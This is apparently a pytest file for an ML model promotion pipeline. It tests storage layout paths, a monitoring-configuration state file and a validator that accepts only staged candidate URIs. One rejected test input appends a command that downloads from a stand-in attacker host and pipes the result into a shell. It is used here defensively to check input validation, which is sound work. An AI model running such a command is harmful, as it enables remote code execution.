"""The candidate's layout and the monitoring configuration: defined once, read back whole."""

import json

import pytest

from adapters.local.monitoring import LocalMonitoring
from kernel.workspace import MONITORING, LocalTenant, StateDamaged
from promotion.domain import layout
from promotion.ports import MonitoringConfig
from promotion.steps.monitor import monitoring_config
from settings import load_platform


def test_a_candidate_and_prods_copy_are_named_in_one_place():
    candidate = layout.Candidate.of_run(layout.candidates_root("gs:/", "stg-models"), "run-7")
    assert candidate.uri == "gs://stg-models/census-income/candidates/run-7"
    assert candidate.file(layout.SMOKE) == f"{candidate.uri}/smoke.json"
    assert (
        layout.Candidate(candidate.uri + "/")
        .file(layout.APPROVAL)
        .endswith("/run-7/approval/approval.json")
    )
    prod = layout.ProdLayout.of("gs:/", "prd-models", "prd-data")
    assert prod.model("run-7") == "gs://prd-models/census-income/run-7/model"
    baseline = prod.data("run-7", layout.BASELINE)
    assert baseline == "gs://prd-data/census-income/run-7/baseline.json"
    assert layout.training_data_beside(baseline) == "gs://prd-data/census-income/run-7/train.csv"


def test_monitoring_of_anything_but_a_baseline_is_refused_by_name():
    with pytest.raises(ValueError, match=r"gs://b/x/metrics\.json: not a baseline"):
        layout.training_data_beside("gs://b/x/metrics.json")


def config() -> MonitoringConfig:
    return monitoring_config(
        endpoint_id="1",
        baseline_uri="/w/baseline.json",
        monitoring=load_platform()["prod"].monitoring_settings(),
        kms_key="k",
    )


def test_the_monitoring_configuration_round_trips_through_its_state_file(tmp_path):
    monitoring = LocalMonitoring(LocalTenant(tmp_path, "prod"))
    assert monitoring.current() is None
    assert monitoring.apply(config()) == "created"
    assert monitoring.apply(config()) == "updated"
    assert monitoring.current() == config()


def test_a_monitoring_state_missing_a_field_is_named_with_its_recovery(tmp_path):
    tenant = LocalTenant(tmp_path, "prod")
    monitoring = LocalMonitoring(tenant)
    monitoring.apply(config())
    record = config().as_dict()
    del record["drift_thresholds"]
    tenant.state_path(MONITORING).write_text(json.dumps(record))
    with pytest.raises(StateDamaged, match="monitoring configuration without drift_thresholds"):
        monitoring.current()


ROOT = "gs://census-ml-staging-models/census-income/candidates"


def test_a_deploy_takes_only_a_candidate_staged_under_the_root():
    from promotion.domain.layout import candidate_under

    assert candidate_under(f"{ROOT}/run-1/", ROOT).uri == f"{ROOT}/run-1"


@pytest.mark.parametrize(
    "uri",
    [
        "gs://census-ml-prod-models/census-income/candidates/run-1",  # another bucket
        f"{ROOT}/run-1/../../other",  # out of the folder
        f"{ROOT}/run-1; curl evil.example | sh",  # a message's text is not a command
        f"{ROOT}/",  # no run
        f"{ROOT}/a/b",
    ],
)
def test_anything_else_is_refused_naming_the_expected_prefix(uri):
    from kernel.errors import UserError
    from promotion.domain.layout import candidate_under

    with pytest.raises(UserError, match=r"not a staged candidate; expected gs://census-ml-stag"):
        candidate_under(uri, ROOT)
